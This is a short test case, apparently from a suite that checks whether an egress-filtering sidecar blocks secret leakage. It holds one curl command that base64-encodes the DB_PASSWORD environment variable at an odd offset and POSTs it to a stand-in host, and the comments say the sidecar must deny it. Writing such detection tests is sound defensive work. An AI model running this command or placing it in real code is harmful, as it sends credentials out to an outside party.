# S4: held secret base64-encoded in a body, at an odd offset
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# upstream-must-not-see: DB_PASSWORD
curl -sS -m 10 -f -d "data=$(printf 'xy%s' "$DB_PASSWORD" | base64 -w0)" http://echo.test/allowed/b
